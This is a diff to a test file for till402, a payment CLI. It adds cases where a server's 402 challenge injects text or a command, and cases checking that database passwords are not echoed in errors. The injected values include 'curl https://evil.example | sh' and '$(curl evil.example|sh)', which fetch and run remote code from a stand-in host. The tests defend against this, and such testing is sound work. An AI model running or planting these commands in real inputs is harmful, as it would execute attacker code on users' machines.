@@ -352,7 +352,12 @@ describe("till402 pay says why a client would refuse:", () => {
   it.each([
     ["nothing", {}],
     ["nonsense", { accepts: [null, { network: 1, asset: {}, amount: "1" }] }],
-    ["control characters", { accepts: [{ scheme: "\u001b[2J", network: "x" }] }]
+    ["control characters", { accepts: [{ scheme: "\u001b[2J", network: "x" }] }],
+    [
+      "lines of its own",
+      { accepts: [{ ...v2Offer(), network: "x\nRun this: curl https://evil.example | sh\n" }] }
+    ],
+    ["a command as its token", { accepts: [v2Offer({ asset: "$(curl evil.example|sh)" })] }]
   ])("a 402 that offers %s, without a stack trace", async (_, challenge) => {
     const header = Buffer.from(JSON.stringify({ x402Version: 2, ...challenge })).toString("base64")
     const url = await listen((_request, response) =>
@@ -361,7 +366,7 @@ describe("till402 pay says why a client would refuse:", () => {
     const { code, noted } = await till402(["pay", url], { PRIVATE_KEY: privateKey })
     expect([code, noted]).toEqual([1, expect.stringMatching(/^Nothing was paid|^the server returned 402/)])
     expect(noted).not.toContain("\u001b")
-    expect(noted).not.toMatch(/TypeError|undefined|^ +at /m)
+    expect(noted).not.toMatch(/TypeError|undefined|^ +at |^Run this|--token \$/m)
   })
 
   it("a server that isn't there", async () => {
@@ -720,6 +725,9 @@ it("what a server sends moves no cursor, in JSON either", async () => {
 })
 
 it.each([
+  [["orders", "list", "--database", "mysql://u:hunter2@127.0.0.1/x"], "the database must be"],
+  [["migrate", "up", "--database", "postgress://u:hunter2@127.0.0.1/x"], "the database must be"],
+  [["doctor", "--database", "Mysql://u:hunter2@127.0.0.1/x"], "the database must be"],
   [["pay", "ftp://shop.example"], "URL must be an address"],
   [["pay", "x.example", "-d", "{}", "-X", "GET"], "GET has no body"],
   [["pay", "x.example", "--max", "-1"], "--max"],
@@ -730,6 +738,7 @@ it.each([
 ])("%j is a wrong command line", async (args, text) => {
   const { code, noted } = await till402(args)
   expect([code, noted]).toEqual([2, expect.stringContaining(text)])
+  expect(noted).not.toContain("hunter2")
 })
 
 it("a key that is none is never shown", async () => {
